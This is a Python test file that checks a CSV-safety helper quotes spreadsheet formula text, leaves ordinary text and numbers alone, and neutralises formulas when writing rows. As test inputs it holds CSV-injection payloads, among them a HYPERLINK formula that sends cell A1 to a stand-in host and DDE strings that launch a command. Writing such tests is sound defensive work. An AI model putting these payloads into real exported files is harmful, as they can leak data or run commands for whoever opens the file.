"""RELIABILITY #33: text that a spreadsheet would run as a formula is written inert."""

import csv
import io

import pytest

from shared import csvsafe


class TestSafeCell:
    @pytest.mark.parametrize(
        "text",
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+2 Bank",
            "\t=1+2",
            "\r=1+2",
        ],
    )
    def test_formula_text_gets_a_leading_quote(self, text):
        assert csvsafe.safe_cell(text) == "'" + text

    @pytest.mark.parametrize(
        "value", ["王小梅", "6222020200112233445", "Agricultural Bank, Weng'an", "", "a=b"]
    )
    def test_ordinary_text_is_unchanged(self, value):
        assert csvsafe.safe_cell(value) == value

    @pytest.mark.parametrize("value", [50000, -50000, 0, None])
    def test_numbers_stay_numbers(self, value):
        assert csvsafe.safe_cell(value) == value


class TestWriter:
    def test_rows_read_back_with_formulas_neutralised_and_amounts_numeric(self):
        out = io.StringIO()
        writer = csvsafe.writer(out, lineterminator="\r\n")
        writer.writerow(["name", "bank", "amount_fen"])
        writer.writerows([['=HYPERLINK("x")', "=1+2 Bank", -150], ["王小梅", "ABC", 50000]])
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        assert rows == [
            ["name", "bank", "amount_fen"],
            ['\'=HYPERLINK("x")', "'=1+2 Bank", "-150"],
            ["王小梅", "ABC", "50000"],
        ]
